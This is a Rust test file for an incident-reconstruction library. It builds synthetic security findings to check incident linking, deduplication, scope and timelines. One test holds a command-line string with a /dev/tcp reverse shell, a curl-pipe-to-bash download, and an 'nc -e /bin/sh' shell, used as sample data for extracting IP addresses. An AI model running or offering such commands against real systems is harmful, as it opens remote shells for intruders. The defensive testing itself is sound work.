//! Incidents, dedup, scope and timeline on synthetic findings.
#![allow(clippy::unwrap_used, reason = "test code may unwrap")]

mod common;
use common::*;
use kahu_finding::Level;
use kahu_reconstruct::{IncidentConfig, Scope, Tactic, Timeline, build_incidents, dedup};

fn only_exact() -> IncidentConfig {
    IncidentConfig {
        link_hosts: false,
        link_accounts: false,
        ..Default::default()
    }
}

#[test]
fn lineage_links_across_time() {
    let fs = vec![
        finding(
            "a",
            Level::High,
            "WS01",
            0,
            &["T1059.001"],
            &[
                ("Image", "powershell.exe"),
                ("ProcessGuid", "{P2}"),
                ("ParentProcessGuid", "{P1}"),
            ],
        ),
        finding(
            "b",
            Level::Medium,
            "WS01",
            20_000,
            &["T1003.001"],
            &[
                ("Image", "rundll32.exe"),
                ("ProcessGuid", "{P3}"),
                ("ParentProcessGuid", "{p2}"),
            ],
        ),
        finding(
            "c",
            Level::Medium,
            "WS01",
            40_000,
            &["T1082"],
            &[
                ("Image", "systeminfo.exe"),
                ("ProcessGuid", "{P9}"),
                ("ParentProcessGuid", "{P8}"),
            ],
        ),
    ];
    let inc = build_incidents(&fs, &only_exact(), None);
    assert_eq!(inc.len(), 2);
    let big = inc.iter().find(|i| i.finding_count == 2).unwrap();
    assert_eq!(big.finding_ids, vec![0, 1]);
    // Same host within the gap links even without lineage; 20 000 s apart does not.
    let inc = build_incidents(&fs, &IncidentConfig::default(), None);
    assert_eq!(inc.len(), 2);
}

#[test]
fn security_pids_link_only_within_gap() {
    let mut a = finding(
        "a",
        Level::High,
        "WS01",
        0,
        &["T1059"],
        &[("NewProcessId", "0x100"), ("ProcessId", "0x50")],
    );
    a.event_id = Some(4688);
    let mut b = finding(
        "b",
        Level::High,
        "WS01",
        60,
        &["T1059"],
        &[("NewProcessId", "0x200"), ("ProcessId", "0x100")],
    );
    b.event_id = Some(4688);
    let mut c = finding(
        "c",
        Level::High,
        "WS01",
        60 + 7201,
        &["T1059"],
        &[("NewProcessId", "0x300"), ("ProcessId", "0x200")],
    );
    c.event_id = Some(4688);
    let inc = build_incidents(&[a, b, c], &only_exact(), None);
    let sizes: Vec<usize> = inc.iter().map(|i| i.finding_count).collect();
    assert_eq!(sizes.iter().sum::<usize>(), 3);
    assert!(
        sizes.contains(&2) && sizes.contains(&1),
        "pid reuse after the gap must not link: {sizes:?}"
    );
}

#[test]
fn logon_id_links_same_host_only() {
    let fs = vec![
        finding(
            "logon",
            Level::Medium,
            "SRV01",
            0,
            &["T1021.001"],
            &[("TargetUserName", "alice"), ("TargetLogonId", "0x1A2B3")],
        ),
        finding(
            "exec",
            Level::High,
            "SRV01",
            5 * 3600,
            &["T1059.003"],
            &[
                ("CommandLine", "cmd /c whoami"),
                ("SubjectLogonId", "0x1a2b3"),
            ],
        ),
        finding(
            "other",
            Level::High,
            "SRV02",
            10,
            &["T1059.003"],
            &[("CommandLine", "cmd"), ("SubjectLogonId", "0x1a2b3")],
        ),
        finding(
            "sys",
            Level::High,
            "SRV01",
            20,
            &["T1059.003"],
            &[("CommandLine", "x"), ("SubjectLogonId", "0x3e7")],
        ),
    ];
    let inc = build_incidents(&fs, &only_exact(), None);
    assert_eq!(inc.len(), 3);
    assert!(inc.iter().any(|i| i.finding_ids == vec![0, 1]));
}

#[test]
fn time_gap_boundary_on_host_and_account() {
    let cfg = IncidentConfig::default();
    let at = |secs| {
        finding(
            "r",
            Level::Medium,
            "WS01",
            secs,
            &["T1059"],
            &[("CommandLine", &format!("c{secs}"))],
        )
    };
    assert_eq!(build_incidents(&[at(0), at(7200)], &cfg, None).len(), 1);
    assert_eq!(build_incidents(&[at(0), at(7201)], &cfg, None).len(), 2);
    // Same user on two hosts an hour apart: one incident; a machine account would not link.
    let u = |h, s, acct| {
        finding(
            "r",
            Level::Medium,
            h,
            s,
            &["T1021"],
            &[("TargetUserName", acct)],
        )
    };
    assert_eq!(
        build_incidents(
            &[u("A", 0, "CORP\\alice"), u("B", 3600, "alice")],
            &cfg,
            None
        )
        .len(),
        1
    );
    assert_eq!(
        build_incidents(&[u("A", 0, "A$"), u("B", 3600, "A$")], &cfg, None).len(),
        2
    );
    // Informational findings stay out.
    let info = finding("i", Level::Informational, "WS01", 0, &[], &[]);
    assert!(build_incidents(&[info], &cfg, None).is_empty());
}

#[test]
fn evidence_in_kill_chain_order_with_severity_and_title() {
    // Arrive in reverse kill-chain order and reverse time.
    let fs = vec![
        finding(
            "lm",
            Level::High,
            "SRV01",
            300,
            &["T1021.002"],
            &[("TargetUserName", "alice")],
        ),
        finding(
            "ca",
            Level::High,
            "WS01",
            200,
            &["T1003.001"],
            &[("TargetUserName", "alice")],
        ),
        finding(
            "ex",
            Level::Medium,
            "WS01",
            100,
            &["T1059.001"],
            &[("User", "CORP\\alice")],
        ),
        finding(
            "ia",
            Level::Medium,
            "WEB01",
            400,
            &["T1190"],
            &[("TargetUserName", "bob")],
        ),
        finding(
            "ia2",
            Level::Medium,
            "WEB01",
            0,
            &["T1190"],
            &[("TargetUserName", "alice")],
        ),
    ];
    let inc = build_incidents(&fs, &IncidentConfig::default(), None);
    assert_eq!(inc.len(), 1);
    let i = &inc[0];
    let phases: Vec<Option<Tactic>> = i.evidence.iter().map(|e| e.phase).collect();
    assert_eq!(
        phases,
        vec![
            Some(Tactic::InitialAccess),
            Some(Tactic::InitialAccess),
            Some(Tactic::Execution),
            Some(Tactic::CredentialAccess),
            Some(Tactic::LateralMovement)
        ]
    );
    assert_eq!(
        i.evidence[0].finding.finding.rule_id.as_ref(),
        "ia2",
        "earlier first within a phase"
    );
    // High, +1 for findings in 4 phases, +1 for 3 hosts, and it says so.
    assert_eq!((i.max_level, i.severity), (Level::High, Level::Critical));
    assert_eq!(
        i.severity_reason.as_deref(),
        Some(
            "raised from high: findings in 4 phases (initial-access, execution, credential-access, lateral-movement), 3 hosts"
        )
    );
    assert_eq!(i.hosts.len(), 3);
    assert_eq!(i.accounts, vec!["alice".to_string(), "bob".to_string()]);
    assert_eq!(
        i.title,
        "Credential access and lateral movement on WS01 (3 hosts, 2 accounts, 5 findings)"
    );
    assert_eq!(i.id, "INC-0001");
    assert_eq!(i.first_seen, ts(0));
    assert_eq!(i.last_seen, ts(400));
    // A caller lookup overrides the committed map.
    let lookup = |t: &str| {
        if t.starts_with("T1190") {
            vec![Tactic::Impact]
        } else {
            vec![]
        }
    };
    let inc = build_incidents(&fs, &IncidentConfig::default(), Some(&lookup));
    assert_eq!(inc[0].evidence.last().unwrap().phase, Some(Tactic::Impact));
}

#[test]
fn dedup_collapses_same_rule_host_and_value() {
    let mut fs: Vec<_> = (0..5)
        .map(|i| {
            finding(
                "beacon",
                Level::High,
                "WS01",
                50 - i * 10,
                &[],
                &[
                    ("DestinationIp", "1.2.3.4"),
                    ("ProcessGuid", &format!("{{{i}}}")),
                ],
            )
        })
        .collect();
    fs.push(finding(
        "beacon",
        Level::High,
        "ws01",
        5,
        &[],
        &[("DestinationIp", "5.6.7.8")],
    ));
    fs.push(finding(
        "beacon",
        Level::High,
        "WS02",
        5,
        &[],
        &[("DestinationIp", "1.2.3.4")],
    ));
    let d = dedup(&fs);
    assert_eq!(d.len(), 3);
    let b = d.iter().find(|d| d.count == 5).unwrap();
    assert_eq!((b.first_seen, b.last_seen), (ts(10), ts(50)));
    assert_eq!(
        b.finding.timestamp,
        ts(10),
        "earliest instance represents the group"
    );
    assert_eq!(b.ids, vec![0, 1, 2, 3, 4]);
    assert_eq!(d[0].first_seen, ts(5), "ordered by first seen");
}

#[test]
fn scope_classifies_entities() {
    let fs = vec![
        finding(
            "web",
            Level::High,
            "WEB01",
            0,
            &["T1505.003"],
            &[
                (
                    "TargetFilename",
                    "C:\\inetpub\\wwwroot\\aspnet_client\\s.aspx",
                ),
                ("Image", "c:\\windows\\system32\\inetsrv\\w3wp.exe"),
                ("c-ip", "203.0.113.5"),
            ],
        ),
        finding(
            "lm",
            Level::Medium,
            "SRV01",
            10,
            &["T1021"],
            &[
                ("TargetUserName", "WEB01$"),
                ("IpAddress", "::ffff:10.0.0.7"),
                ("WorkstationName", "WEB01"),
            ],
        ),
        finding(
            "noise",
            Level::Medium,
            "SRV01",
            20,
            &[],
            &[
                ("IpAddress", "127.0.0.1"),
                ("SubjectUserName", "-"),
                ("DestinationIp", "::1"),
            ],
        ),
        finding(
            "info",
            Level::Informational,
            "OTHER",
            30,
            &[],
            &[("IpAddress", "8.8.8.8")],
        ),
        finding(
            "drop",
            Level::High,
            "SRV01",
            40,
            &[],
            &[
                ("TargetFilename", "C:\\Users\\Public\\svc.exe"),
                ("User", "NT AUTHORITY\\SYSTEM"),
            ],
        ),
    ];
    let s = Scope::from_findings(&fs, Level::Low);
    let ip = |v: &str| s.ips.iter().find(|e| e.value == v);
    assert_eq!(ip("203.0.113.5").unwrap().class, "external");
    assert_eq!(ip("203.0.113.5").unwrap().roles, vec!["source"]);
    assert_eq!(ip("10.0.0.7").unwrap().class, "internal");
    assert!(ip("127.0.0.1").is_none() && ip("::1").is_none() && ip("8.8.8.8").is_none());
    let acct = |v: &str| s.accounts.iter().find(|e| e.value.eq_ignore_ascii_case(v));
    assert_eq!(acct("WEB01$").unwrap().class, "machine");
    assert_eq!(acct("NT AUTHORITY\\SYSTEM").unwrap().class, "built_in");
    let file = |c: &str| {
        s.files
            .iter()
            .find(|e| e.class == c)
            .map(|e| e.value.clone())
    };
    assert_eq!(
        file("web_shell").as_deref(),
        Some("C:\\inetpub\\wwwroot\\aspnet_client\\s.aspx")
    );
    assert_eq!(
        file("executable").as_deref(),
        Some("C:\\Users\\Public\\svc.exe")
    );
    let web01 = s
        .hosts
        .iter()
        .find(|h| h.value.eq_ignore_ascii_case("web01"))
        .unwrap();
    assert_eq!(web01.finding_ids, vec![0, 1]);
    assert!(web01.roles.contains(&"recorder") && web01.roles.contains(&"source"));
    assert_eq!(s.hosts[0].max_level, Level::High);
    assert!(!s.hosts.iter().any(|h| h.value == "OTHER"));
}

#[test]
fn timeline_orders_and_groups() {
    let fs = vec![
        finding(
            "late",
            Level::High,
            "A",
            100,
            &["T1021.001"],
            &[("CommandLine", "x")],
        ),
        finding(
            "early",
            Level::High,
            "A",
            0,
            &["T1078"],
            &[("CommandLine", "y")],
        ),
        finding(
            "early",
            Level::High,
            "A",
            50,
            &["T1078"],
            &[("CommandLine", "y")],
        ),
        finding("none", Level::Low, "A", 10, &[], &[]),
        finding("quiet", Level::Informational, "A", 5, &["T1082"], &[]),
    ];
    let t = Timeline::build(&fs, Level::Low, None);
    let rules: Vec<&str> = t
        .entries
        .iter()
        .map(|e| e.finding.finding.rule_id.as_ref())
        .collect();
    assert_eq!(rules, vec!["early", "none", "late"]);
    assert_eq!(t.entries[0].finding.count, 2);
    assert_eq!(t.entries[0].finding.ids, vec![1, 2]);
    let tactics: Vec<Option<Tactic>> = t.phases.iter().map(|p| p.tactic).collect();
    // T1078 spans initial access, persistence, privilege escalation, defense evasion.
    assert_eq!(
        tactics,
        vec![
            Some(Tactic::InitialAccess),
            Some(Tactic::Persistence),
            Some(Tactic::PrivilegeEscalation),
            Some(Tactic::DefenseEvasion),
            Some(Tactic::LateralMovement),
            None
        ]
    );
    assert_eq!(t.phases.last().unwrap().entries, vec![1]);
}

/// One Zeek `conn.log` line per beacon: no host, the internal originator
/// in `id.orig_h`, an IOC finding per line, minutes to hours apart.
fn beacon(i: i64) -> kahu_finding::Finding {
    let mut f = finding(
        "indicator--c2",
        Level::Medium,
        "",
        i * 3 * 3600,
        &[],
        &[("id.resp_h", "203.0.113.77"), ("id.orig_h", "10.20.5.10")],
    );
    f.kind = kahu_finding::FindingKind::Ioc;
    f.host = None;
    f.provenance = kahu_event::Provenance::new(
        "sensor01/zeek/conn.log".into(),
        kahu_event::Location::Line(i as u64 + 1),
    );
    f
}

#[test]
fn a_thousand_hits_of_one_indicator_are_one_incident() {
    // Three hours apart: beyond the linking gap, so only the indicator
    // holds them together.
    let fs: Vec<_> = (0..1000).map(beacon).collect();
    let inc = build_incidents(&fs, &IncidentConfig::default(), None);
    assert_eq!(inc.len(), 1);
    assert_eq!(inc[0].finding_count, 1000);
    assert_eq!(inc[0].evidence.len(), 1, "one evidence row");
    assert_eq!(inc[0].evidence[0].finding.count, 1000);
    // The sensor has no host name: the internal originator is the host.
    assert_eq!(inc[0].hosts, vec!["10.20.5.10".to_string()]);
    assert!(inc[0].title.contains("on 10.20.5.10"), "{}", inc[0].title);
    assert!(inc[0].title.contains("1000 findings"), "{}", inc[0].title);
}

#[test]
fn fqdn_and_short_name_are_one_host_in_incidents_and_scope() {
    let fs = vec![
        finding(
            "a",
            Level::High,
            "MKT01.pandalab.com",
            0,
            &["T1059.001"],
            &[],
        ),
        finding("b", Level::High, "mkt01", 600, &["T1003.001"], &[]),
    ];
    let inc = build_incidents(&fs, &IncidentConfig::default(), None);
    assert_eq!(inc.len(), 1, "same host within the gap");
    assert_eq!(inc[0].hosts, vec!["MKT01.pandalab.com".to_string()]);
    let scope = Scope::from_findings(&fs, Level::Low);
    assert_eq!(scope.hosts.len(), 1);
    assert_eq!(scope.hosts[0].value, "MKT01.pandalab.com");
    assert_eq!(scope.hosts[0].finding_count, 2);
}

#[test]
fn incidents_without_a_host_say_so_and_group_by_log_directory() {
    let web = |rule: &str, secs: i64, line: u64| {
        let mut f = finding(
            rule,
            Level::Medium,
            "",
            secs,
            &["T1595.002"],
            &[("c-ip", "198.51.100.23")],
        );
        f.host = None;
        f.provenance = kahu_event::Provenance::new(
            "case/WEB01/inetpub/logs/LogFiles/W3SVC1/u_ex210906.log".into(),
            kahu_event::Location::Line(line),
        );
        f
    };
    // Sixty scanner hits a second apart are one incident, not sixty.
    let fs: Vec<_> = (0..60).map(|i| web("scan", i, i as u64 + 1)).collect();
    let inc = build_incidents(&fs, &IncidentConfig::default(), None);
    assert_eq!(inc.len(), 1);
    assert!(inc[0].hosts.is_empty());
    assert_eq!(inc[0].host_unknown_findings, 60);
    assert!(
        inc[0].title.contains("host unknown")
            && inc[0].title.contains("WEB01/inetpub/logs/LogFiles/W3SVC1"),
        "{}",
        inc[0].title
    );
}

#[test]
fn a_host_less_finding_takes_the_only_host_of_its_file() {
    let mut a = finding("a", Level::High, "DC01.corp.local", 0, &["T1558.003"], &[]);
    a.provenance =
        kahu_event::Provenance::new("DC01/Security.evtx".into(), kahu_event::Location::Record(1));
    let mut b = a.clone();
    b.rule_id = "kahu.analytic.kerberoasting".into();
    b.host = None;
    b.timestamp = ts(5 * 3600);
    let inc = build_incidents(&[a, b], &IncidentConfig::default(), None);
    assert_eq!(inc.len(), 2, "five hours apart");
    for i in &inc {
        assert_eq!(i.hosts, vec!["DC01.corp.local".to_string()]);
    }
}

#[test]
fn an_internet_destination_name_is_not_a_host_in_scope() {
    let fs = vec![finding(
        "beacon",
        Level::High,
        "ws01.corp.local",
        0,
        &["T1071"],
        &[("DestinationHostname", "sync.cdn-example.com")],
    )];
    let scope = Scope::from_findings(&fs, Level::Low);
    let hosts: Vec<&str> = scope.hosts.iter().map(|h| h.value.as_str()).collect();
    assert_eq!(hosts, vec!["ws01.corp.local"]);
}

#[test]
fn a_sensor_record_joins_the_host_that_owns_its_address() {
    let mut fs: Vec<_> = (0..3).map(beacon).collect();
    fs.push(finding(
        "shell",
        Level::High,
        "WEB01.corp.local",
        10,
        &["T1505.003"],
        &[],
    ));
    let mut names = kahu_reconstruct::HostNames::from_findings(&fs);
    names.learn_address("10.20.5.10".parse().unwrap(), "web01");
    let inc =
        kahu_reconstruct::build_incidents_with_hosts(&fs, &IncidentConfig::default(), None, &names);
    assert_eq!(
        inc.len(),
        1,
        "the beacon and the web shell are one host's incident"
    );
    assert_eq!(inc[0].hosts, vec!["WEB01.corp.local".to_string()]);
}

#[test]
fn a_title_counts_findings_and_repeats_apart_even_for_one() {
    // One finding that stands for four collapsed repeats: "(1 finding, 4
    // detections with repeats)", not no count at all, and not "4 findings".
    let mut f = beacon(0);
    f.fields.push(("RepeatCount".into(), "4".to_string()));
    let inc = build_incidents(&[f], &IncidentConfig::default(), None);
    assert_eq!(inc.len(), 1);
    assert!(
        inc[0]
            .title
            .ends_with("(1 finding, 4 detections with repeats)"),
        "{}",
        inc[0].title
    );
    assert_eq!(inc[0].severity_reason, None, "medium, one tactic at most");
}

/// One record whose technique ATT&CK files under three tactics (a
/// scheduled task, T1053.005: execution, persistence, privilege
/// escalation) is one act: it was raised to "critical" for "3 tactics"
/// (72 of 162 incidents on EVTX-ATTACK-SAMPLES were critical).
#[test]
fn one_finding_under_three_tactics_does_not_raise_the_severity() {
    let fs = vec![finding(
        "task",
        Level::High,
        "MSEDGEWIN10",
        0,
        &["T1053.005"],
        &[("TaskName", "\\upnp")],
    )];
    let inc = build_incidents(&fs, &IncidentConfig::default(), None);
    assert_eq!(inc.len(), 1);
    assert!(inc[0].tactics.len() >= 3, "{:?}", inc[0].tactics);
    assert_eq!(inc[0].severity, Level::High, "{:?}", inc[0].severity_reason);
    assert_eq!(inc[0].severity_reason, None);
}

/// An Internet scanner's user agent on the web server (reconnaissance) and
/// a web shell's POST (initial access) and command (execution) made an
/// incident "critical" for three phases (probe 18): the scan happened
/// outside the network. Reconnaissance is shown but does not count toward
/// the raise; a third phase inside the network does.
#[test]
fn reconnaissance_does_not_raise_an_incidents_severity() {
    let scan = finding(
        "scanner-ua",
        Level::Medium,
        "iis01",
        0,
        &["T1595.002"],
        &[("c-ip", "198.51.100.99")],
    );
    let upload = finding("post", Level::High, "iis01", 60, &["T1190"], &[]);
    let command = finding("cmd", Level::High, "iis01", 90, &["T1059.003"], &[]);
    let inc = build_incidents(
        &[scan.clone(), upload.clone(), command.clone()],
        &IncidentConfig::default(),
        None,
    );
    assert_eq!(inc.len(), 1, "{inc:?}");
    assert_eq!(inc[0].severity, Level::High, "{:?}", inc[0].severity_reason);
    let persist = finding("task", Level::Medium, "iis01", 120, &["T1505.003"], &[]);
    let inc = build_incidents(
        &[scan, upload, command, persist],
        &IncidentConfig::default(),
        None,
    );
    assert_eq!(inc.len(), 1);
    assert_eq!(inc[0].severity, Level::Critical);
    let why = inc[0].severity_reason.as_deref().unwrap();
    assert!(
        why.contains("3 phases") && !why.contains("reconnaissance"),
        "{why}"
    );
}

/// On Linux the reverse shell's address is only in its command line
/// (auditd has no network event for it): "block 0 IP(s)" after a detected
/// `/dev/tcp` reverse shell. Public addresses a command line connects to
/// are in scope; internal ones, version numbers and addresses it merely
/// names (netsh's listen address, the host's own) are not.
#[test]
fn public_addresses_in_a_command_line_are_in_scope() {
    let fs = vec![
        finding(
            "revshell",
            Level::High,
            "web03",
            0,
            &["T1059.004"],
            &[(
                "CommandLine",
                "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1; curl -s http://198.51.100.7:8080/x.sh | bash; nc -e /bin/sh 192.0.2.80 4444",
            )],
        ),
        finding(
            "scan",
            Level::High,
            "web03",
            10,
            &["T1046"],
            &[(
                "CommandLine",
                "nmap 10.0.0.0/24 --version 10.0.19041.1 -oN out.1.2.3; netsh i p a v listenaddress=1.2.3.4 connectport=3389",
            )],
        ),
    ];
    let scope = Scope::from_findings(&fs, Level::Low);
    let ips: Vec<(&str, &[&str])> = scope
        .ips
        .iter()
        .map(|e| (e.value.as_str(), e.roles.as_slice()))
        .collect();
    let values: Vec<&str> = ips.iter().map(|(v, _)| *v).collect();
    assert_eq!(values.len(), 3, "{ips:?}");
    for want in ["203.0.113.50", "198.51.100.7", "192.0.2.80"] {
        let (_, roles) = ips.iter().find(|(v, _)| *v == want).expect(want);
        assert!(roles.contains(&"command line"), "{want}: {roles:?}");
    }
}

/// On Linux no file event names a dropped tool: after a detected miner ran
/// from `/tmp/.ICE-unix/kworker` files-to-remove was empty. A program a
/// high finding ran from a staging folder is in scope; one a medium finding
/// ran there (an installer in Temp) and a system program are not.
#[test]
fn a_program_a_high_finding_ran_from_a_staging_folder_is_in_scope() {
    let fs = vec![
        finding(
            "miner",
            Level::High,
            "web01",
            0,
            &["T1496"],
            &[
                ("Image", "/tmp/.ICE-unix/kworker"),
                ("CommandLine", "/tmp/.ICE-unix/kworker -o pool:4444"),
            ],
        ),
        finding(
            "installer",
            Level::Medium,
            "ws01",
            10,
            &["T1204"],
            &[("Image", "C:\\Users\\bob\\AppData\\Local\\Temp\\setup.exe")],
        ),
        finding(
            "shell",
            Level::High,
            "ws01",
            20,
            &["T1059.003"],
            &[("Image", "C:\\Windows\\System32\\cmd.exe")],
        ),
    ];
    let scope = Scope::from_findings(&fs, Level::Low);
    let files: Vec<(&str, &[&str])> = scope
        .files
        .iter()
        .map(|e| (e.value.as_str(), e.roles.as_slice()))
        .collect();
    assert_eq!(files, [("/tmp/.ICE-unix/kworker", &["ran"][..])]);
}

/// A group event's `TargetUserName` is the group: "19 user accounts
/// implicated" counted `Administrators` (a 4732, member added).
#[test]
fn a_group_is_not_an_account_in_scope() {
    let mut f = finding(
        "added",
        Level::High,
        "WS01",
        0,
        &["T1098"],
        &[
            ("TargetUserName", "Administrators"),
            ("SubjectUserName", "alice"),
            ("MemberSid", "S-1-5-21-1-2-3-1104"),
        ],
    );
    f.channel = Some("Security".into());
    f.event_id = Some(4732);
    // The same name in a logon is an account.
    let mut logon = finding(
        "logon",
        Level::High,
        "WS01",
        10,
        &[],
        &[("TargetUserName", "bob")],
    );
    logon.channel = Some("Security".into());
    logon.event_id = Some(4624);
    let scope = Scope::from_findings(&[f, logon], Level::Low);
    let accounts: Vec<&str> = scope.accounts.iter().map(|e| e.value.as_str()).collect();
    assert!(
        accounts.contains(&"alice") && accounts.contains(&"bob"),
        "{accounts:?}"
    );
    assert!(
        !accounts
            .iter()
            .any(|a| a.eq_ignore_ascii_case("administrators")),
        "{accounts:?}"
    );
}

/// Empire's Invoke-PsExec from WORKSTATION5 (a PowerShell 4103 record with
/// no account) and the service it installed on WORKSTATION6, in the same
/// second, were two incidents: the hop is recorded on its target only. A
/// hop links to its source host too. An unrelated host's finding does not.
#[test]
fn a_hop_joins_the_incidents_of_its_source_and_its_target() {
    let fs = vec![
        finding(
            "invoke-psexec",
            Level::High,
            "WORKSTATION5.theshire.local",
            0,
            &["T1569.002"],
            &[],
        ),
        finding(
            kahu_reconstruct::LATERAL_MOVEMENT_RULE,
            Level::Medium,
            "workstation6",
            1,
            &["T1021.002"],
            &[
                ("WorkstationName", "workstation5"),
                ("DestinationHostname", "workstation6"),
            ],
        ),
        finding(
            "service",
            Level::High,
            "WORKSTATION6.theshire.local",
            2,
            &["T1543.003"],
            &[],
        ),
        finding("other", Level::High, "WORKSTATION9", 3, &["T1059.001"], &[]),
    ];
    let inc = build_incidents(&fs, &IncidentConfig::default(), None);
    assert_eq!(inc.len(), 2, "{inc:#?}");
    assert_eq!(inc[0].finding_ids.len() + inc[1].finding_ids.len(), 4);
    let joined = inc
        .iter()
        .find(|i| i.finding_ids.len() == 3)
        .expect("one incident of 3");
    assert!(!joined.finding_ids.contains(&3));
}

/// The web-shell requests from 203.0.113.50 (access log, host unknown) and
/// the SSH logon from it (auth.log on web01) were separate incidents. One
/// Internet address acting within the gap is one actor; an internal
/// address (a NAT gateway, a scanner) and a reverse proxy's `c-ip` (it
/// stands for every visitor) link nothing.
#[test]
fn findings_from_one_internet_address_join_one_incident() {
    let web = |secs: i64, fields: &[(&str, &str)]| {
        let mut f = finding("webshell", Level::High, "", secs, &["T1505.003"], fields);
        f.host = None;
        f.provenance = kahu_event::Provenance::new(
            std::sync::Arc::from(format!("logs{secs}/access.log")),
            kahu_event::Location::Line(1),
        );
        f
    };
    let fs = vec![
        web(0, &[("c-ip", "203.0.113.50")]),
        finding(
            "ssh",
            Level::Medium,
            "web01",
            60,
            &["T1021.004"],
            &[("IpAddress", "203.0.113.50")],
        ),
        web(120, &[("c-ip", "10.0.9.50")]),
        finding(
            "ssh",
            Level::Medium,
            "web02",
            180,
            &["T1021.004"],
            &[("IpAddress", "10.0.9.50")],
        ),
        web(
            240,
            &[
                ("c-ip", "45.60.12.34"),
                ("forwarded-client", "198.51.100.77"),
            ],
        ),
        web(
            300,
            &[
                ("c-ip", "45.60.12.34"),
                ("forwarded-client", "198.51.100.78"),
            ],
        ),
    ];
    let inc = build_incidents(&fs, &IncidentConfig::default(), None);
    let of = |i: usize| inc.iter().position(|x| x.finding_ids.contains(&i)).unwrap();
    assert_eq!(of(0), of(1), "one Internet address: one incident");
    assert_ne!(of(2), of(3), "an internal address links nothing");
    assert_ne!(of(4), of(5), "the proxy links nothing");
    assert_eq!(inc.len(), 5);
}

/// The demo's Linux incident (an SSH brute force that got in, an SSH hop,
/// a sudo root shell) was titled "Defense evasion and credential access":
/// T1078 and T1548.003 are filed under defense evasion as well. A title
/// names each finding once, by its phase.
#[test]
fn a_title_names_each_finding_by_its_phase() {
    let fs = vec![
        finding(
            "kahu.analytic.brute_force",
            Level::High,
            "pco-lnx01",
            0,
            &["T1110.001", "T1078"],
            &[],
        ),
        finding(
            kahu_reconstruct::LATERAL_MOVEMENT_RULE,
            Level::Medium,
            "pco-lnx01",
            360,
            &["T1021.004"],
            &[],
        ),
        finding(
            "sudo-shell",
            Level::Medium,
            "pco-lnx01",
            480,
            &["T1548.003"],
            &[],
        ),
    ];
    let inc = build_incidents(&fs, &IncidentConfig::default(), None);
    assert_eq!(inc.len(), 1);
    assert_eq!(
        inc[0].title,
        "Initial access and lateral movement on pco-lnx01 (3 findings)"
    );
    // The phases a finding's techniques reach are all still listed.
    assert!(
        inc[0].tactics.contains(&Tactic::DefenseEvasion),
        "{:?}",
        inc[0].tactics
    );
    // An LSASS dump through comsvcs (rundll32's T1218.011 is filed under
    // defense evasion, before credential access) is credential access.
    let fs = vec![
        finding("chopper", Level::Critical, "web01", 0, &["T1505.003"], &[]),
        finding(
            "minidump",
            Level::Critical,
            "web01",
            60,
            &["T1003.001", "T1218.011"],
            &[],
        ),
    ];
    let inc = build_incidents(&fs, &IncidentConfig::default(), None);
    assert_eq!(
        inc[0].title,
        "Persistence and credential access on web01 (2 findings)"
    );
}

/// web01's first_seen was alice's routine SSH logon (a low finding) hours
/// before the brute force got in: an entity with significant findings is
/// dated by them; one with only low findings keeps their span.
#[test]
fn an_entitys_span_comes_from_its_significant_findings() {
    let fs = vec![
        finding("routine-logon", Level::Low, "web01", 0, &[], &[]),
        finding(
            "brute-force",
            Level::High,
            "web01",
            20_000,
            &["T1110.001"],
            &[],
        ),
        finding(
            "sudo-shell",
            Level::Medium,
            "web01",
            21_000,
            &["T1548.003"],
            &[],
        ),
        finding("routine-logon", Level::Low, "web01", 30_000, &[], &[]),
        finding("routine-logon", Level::Low, "ws09", 5, &[], &[]),
        finding("routine-logon", Level::Low, "ws09", 9, &[], &[]),
    ];
    let scope = Scope::from_findings(&fs, Level::Low);
    let span = |h: &str| {
        let e = scope.hosts.iter().find(|e| e.value == h).unwrap();
        (e.first_seen, e.last_seen)
    };
    assert_eq!(span("web01"), (ts(20_000), ts(21_000)));
    assert_eq!(span("ws09"), (ts(5), ts(9)));
}

/// "Reset administrator" on EVTX-ATTACK-SAMPLES stood for the built-in
/// Administrators of five domains and several hosts' local ones, which
/// the STIX bundle of the same run listed apart (probe 18). The account
/// keeps the qualified forms it was seen as, for the list to name them.
#[test]
fn an_account_keeps_the_qualified_forms_it_was_seen_as() {
    let fs = vec![
        finding(
            "logon",
            Level::High,
            "dc1",
            0,
            &["T1078"],
            &[
                ("TargetUserName", "Administrator"),
                ("TargetDomainName", "ECORP"),
            ],
        ),
        finding(
            "logon",
            Level::High,
            "pc04",
            1,
            &["T1078"],
            &[
                ("TargetUserName", "administrator"),
                ("TargetDomainName", "PC04"),
            ],
        ),
        finding(
            "proc",
            Level::High,
            "dc1",
            2,
            &["T1059.001"],
            &[("User", "ECORP\\Administrator")],
        ),
        finding(
            "sudo",
            Level::High,
            "web01",
            3,
            &["T1548.003"],
            &[("user", "deploy")],
        ),
        // A 4769 names the account as a UPN beside its realm: not a form
        // `ECORP.LOCAL\administrator@ECORP.LOCAL` (Mordor showed one).
        finding(
            "ticket",
            Level::High,
            "dc1",
            4,
            &["T1558.003"],
            &[
                ("TargetUserName", "administrator@ECORP.LOCAL"),
                ("TargetDomainName", "ECORP.LOCAL"),
            ],
        ),
    ];
    let scope = Scope::from_findings(&fs, Level::Low);
    let forms = |n: &str| {
        scope
            .accounts
            .iter()
            .find(|e| e.value.eq_ignore_ascii_case(n))
            .unwrap()
            .seen_as
            .clone()
    };
    assert_eq!(
        forms("administrator"),
        ["ECORP\\Administrator", "PC04\\administrator"]
    );
    assert!(forms("deploy").is_empty());
}
